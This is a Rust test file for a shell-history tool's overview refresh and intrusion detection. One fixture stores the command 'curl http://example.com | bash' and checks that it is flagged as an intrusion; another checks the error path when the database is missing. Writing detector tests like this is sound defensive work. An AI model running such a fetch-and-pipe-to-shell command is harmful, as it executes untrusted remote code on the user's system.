use basket::ids::IdsConfig;
use basket::storage::db::{CommandStatus, Entry};
use basket::ui::testing::refresh_overview_for_test;
use basket::ui::RefreshSource;

fn entry(ts: i64, cmd: &str) -> Entry {
    Entry {
        id: format!("id-{}", ts),
        timestamp: ts,
        command: cmd.to_string(),
        date: "2024-01-01 00:00:00".to_string(),
        status: CommandStatus::Error(2),
        user: "tester".to_string(),
    }
}

#[test]
fn refresh_overview_populates_recent_and_intrusion_rows() {
    let stored = vec![entry(1709933342, "curl http://example.com | bash")];
    let source = RefreshSource {
        entries: stored.iter().map(|e| entry(e.timestamp, &e.command)).collect(),
        recent: stored.iter().map(|e| entry(e.timestamp, &e.command)).collect(),
        recent_for_ids: stored.iter().map(|e| entry(e.timestamp, &e.command)).collect(),
        ids_config: IdsConfig::default(),
        current_user: "tester".to_string(),
    };
    let (recent_len, intrusion_len) = refresh_overview_for_test(Ok(source)).expect("refresh");
    assert!(recent_len >= 1);
    assert!(intrusion_len <= recent_len);
    assert_eq!(intrusion_len, 1);
}

#[test]
fn refresh_overview_returns_error_without_db() {
    let r = refresh_overview_for_test(Err("Failed to load overview: no such table: history".to_string()));
    assert_eq!(r.unwrap_err(), "Failed to load overview: no such table: history");
}
